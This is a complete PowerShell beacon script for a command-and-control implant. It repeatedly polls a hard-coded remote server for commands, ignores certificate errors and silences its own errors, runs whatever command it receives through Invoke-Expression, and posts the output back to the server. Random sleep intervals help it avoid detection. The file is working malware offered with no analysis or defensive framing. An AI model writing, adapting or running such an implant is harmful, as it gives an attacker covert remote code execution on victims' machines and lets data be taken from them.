$ErrorActionPreference = 'SilentlyContinue'
$c2 = 'https://185.220.101.7:8443'
$id = [guid]::NewGuid().ToString('N').Substring(0, 8)

while ($true) {
    $task = Invoke-RestMethod -Uri "$c2/t/$id" -SkipCertificateCheck
    if (${task}?.cmd) {
        $out = Invoke-Expression $task.cmd 2>&1 | Out-String
        Invoke-RestMethod -Uri "$c2/r/$id" -Method Post -Body $out -SkipCertificateCheck | Out-Null
    }
    Start-Sleep -Seconds (Get-Random -Minimum 20 -Maximum 40)
}
